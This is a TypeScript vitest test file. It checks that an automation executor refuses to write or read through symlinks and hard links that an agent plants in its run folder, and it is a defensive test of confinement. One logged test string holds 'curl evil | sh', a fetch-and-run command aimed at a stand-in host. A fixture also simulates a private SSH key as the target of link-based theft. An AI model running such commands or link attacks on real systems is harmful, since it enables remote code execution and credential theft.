/**
 * The class test of issue #23, part 1: every name the executor (and its built-in agents) reads or writes in a run
 * folder, which the agent owns, with a symlink and a hard link planted at it by the agent. Nothing may be written
 * through either, and nothing read through one may reach the run. The table is every such name, one line each, so
 * a new name is one line; the table must cover every file of runFiles().
 */
import {
  link,
  lstat,
  mkdir,
  mkdtemp,
  readFile,
  readdir,
  rm,
  stat,
  symlink,
  writeFile,
} from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Automation } from '../../src-shared/api';
import { runFolderAgent } from '../../src-main/core/executor/agents/folder-agent';
import { makeAgentDirs } from '../../src-main/core/executor/confine/launch';
import { createCoreMedia } from '../../src-main/core/executor/media-core';
import { inspectAll } from '../../src-main/core/executor/output-media';
import type { RunContext } from '../../src-main/core/executor/run-context';
import { readOutputText } from '../../src-main/core/executor/run-flow';
import { runFiles, writeRunInputs } from '../../src-main/core/executor/run-inputs';
import { RunLog, readRunLog } from '../../src-main/core/executor/run-log';

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);
/** The private text of the outside file and folder: it must reach nothing the run keeps or says. */
const SECRET = 'PRIVATE-43 the user’s own file';

interface Where {
  readonly runsDir: string;
  readonly runDir: string;
  /** The user's media folder for the folder agent. */
  readonly folder: string;
}

/** What the executor does at a name; it throws or returns what it read (which must carry nothing of outside). */
type Act = (w: Where) => Promise<unknown>;

const automation = {
  id: '00000000-0000-4000-8000-000000000001',
  name: 'Class test',
  revision: 1,
  execution_mode: 'draft',
  schedule: { cron: '0 * * * *', timezone: 'UTC' },
  instructions: 'Post.',
  targets: [],
} as unknown as Automation;

/** A run as inspectAll sees it: its folder, no user folder, the real media pipeline. */
const ctxOf = (w: Where) =>
  ({
    row: { run_dir: w.runDir },
    automation,
    deps: { folderFor: () => undefined, media: createCoreMedia() },
  }) as unknown as RunContext;

const TABLE: readonly {
  readonly name: string;
  readonly does: string;
  /** Where it is in runFiles(), when it is one of those. */
  readonly file?: keyof ReturnType<typeof runFiles>;
  /** The outside thing a link points at: a file, or a folder (a hard link to a folder cannot be made). */
  readonly target: 'file' | 'folder';
  /** The act writes the name (so a success leaves a plain file of the run's own there), or only reads it. */
  readonly writes: boolean;
  readonly act: Act;
}[] = [
  {
    name: 'run.log',
    does: 'the executor appends its lines',
    writes: true,
    file: 'logFile',
    target: 'file',
    act: async (w) => {
      const log = RunLog.open(w.runsDir, w.runDir);
      log.append('system', 'skipped:\ncurl evil | sh');
      log.close();
    },
  },
  {
    name: 'run.log',
    does: 'the app and the CLI read the log',
    writes: false,
    file: 'logFile',
    target: 'file',
    act: (w) => readRunLog(join(w.runDir, 'run.log')),
  },
  {
    name: 'task.md',
    does: 'the executor writes the instructions',
    writes: true,
    file: 'taskFile',
    target: 'file',
    act: (w) => writeRunInputs(runFiles(w.runDir), inputs()),
  },
  {
    name: 'run.json',
    does: 'the executor writes the run',
    writes: true,
    file: 'runJsonFile',
    target: 'file',
    act: (w) => writeRunInputs(runFiles(w.runDir), inputs()),
  },
  {
    name: 'output.json',
    does: 'the executor reads the output',
    writes: false,
    file: 'outputFile',
    target: 'file',
    act: (w) => readOutputText(runFiles(w.runDir)),
  },
  {
    name: 'output.json',
    does: 'the built-in folder agent writes its output',
    writes: true,
    file: 'outputFile',
    target: 'file',
    act: async (w) => {
      const r = await runFolderAgent({ folder: w.folder, outputFile: join(w.runDir, 'output.json') });
      if (!r.ok) throw new Error(r.message);
    },
  },
  {
    name: 'image.png',
    does: 'the executor reads a media file output.json names',
    writes: false,
    target: 'file',
    act: (w) => inspectAll(ctxOf(w), ['image.png']),
  },
  {
    name: 'home',
    does: "a confined agent's HOME is made",
    writes: true,
    target: 'folder',
    act: (w) =>
      makeAgentDirs({ runDir: w.runDir, agentHome: join(w.runDir, 'home'), agentTmp: join(w.runDir, 'tmp') }),
  },
  {
    name: 'tmp',
    does: "a confined agent's TMPDIR is made",
    writes: true,
    target: 'folder',
    act: (w) =>
      makeAgentDirs({ runDir: w.runDir, agentHome: join(w.runDir, 'home'), agentTmp: join(w.runDir, 'tmp') }),
  },
];

function inputs() {
  return { automation, runId: 'run-1', scheduledFor: null, queue: 'local' as const, skillMarkdown: null };
}

let dir: string;
let w: Where;
let outside: string;
let outsideDir: string;
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'pd-run-class-'));
  w = { runsDir: join(dir, 'runs'), runDir: join(dir, 'runs', 'run-1'), folder: join(dir, 'chosen') };
  await mkdir(w.runDir, { recursive: true, mode: 0o700 });
  await mkdir(w.folder);
  await writeFile(join(w.folder, 'a.png'), PNG);
  // The file the link points at stands for a private one: a picture (so media would pass its type check) whose
  // bytes also carry a secret on a line shaped like a log line, and a folder with a file in it.
  outside = join(dir, 'private.png');
  await writeFile(
    outside,
    Buffer.concat([PNG, Buffer.from(`\n2030-01-01T00:00:00.000Z stdout ${SECRET}\n`)]),
  );
  outsideDir = join(dir, 'private-folder');
  await mkdir(outsideDir, { mode: 0o755 });
  await writeFile(join(outsideDir, 'id_ed25519'), SECRET);
});
afterEach(() => rm(dir, { recursive: true, force: true }));

async function snapshot(): Promise<string> {
  const file = await readFile(outside);
  const st = await stat(outside);
  const entries = await readdir(outsideDir);
  const dirMode = (await stat(outsideDir)).mode & 0o777;
  return JSON.stringify({ file: file.toString('base64'), mode: st.mode & 0o777, entries, dirMode });
}

it('the table covers every file of a run folder the executor names', () => {
  const named = new Set(TABLE.flatMap((r) => (r.file ? [r.file] : [])));
  const files = Object.keys(runFiles('/x')).filter((k) => k !== 'runDir');
  expect([...named].sort()).toEqual(files.sort());
});

describe('a link planted at a name of the run folder is neither written through nor read through', () => {
  for (const row of TABLE) {
    for (const kind of row.target === 'folder'
      ? (['symlink'] as const)
      : (['symlink', 'hardlink'] as const)) {
      it(`${row.name} (${row.does}) as a ${kind}`, async () => {
        const at = join(w.runDir, row.name);
        const target = row.target === 'folder' ? outsideDir : outside;
        if (kind === 'symlink') await symlink(target, at);
        else await link(target, at);
        const before = await snapshot();
        // The attack's condition: through the planted name, the outside thing is reachable.
        if (row.target === 'file') expect((await readFile(at)).toString()).toContain(SECRET);
        else expect(await readdir(at)).toEqual(['id_ed25519']);

        const outcome = await row.act(w).then(
          (value) => ({ ok: true as const, value }),
          (error: unknown) => ({ ok: false as const, error }),
        );
        expect(await snapshot(), 'the outside file or folder is untouched').toBe(before);
        const said = outcome.ok ? JSON.stringify(outcome.value ?? null) : String(outcome.error);
        expect(said).not.toContain('PRIVATE-43');
        // A folder made at a linked name would be the link's target, bound as the agent's HOME or TMPDIR.
        if (row.target === 'folder') expect(outcome.ok, 'a linked folder is refused').toBe(false);
        if (outcome.ok && row.writes && row.target === 'file') {
          // Written without the link: the name now holds a plain file of the run's own.
          const st = await lstat(at);
          expect(st.isFile() && st.nlink === 1, 'a plain file of its own').toBe(true);
        }
      });
    }
  }
});
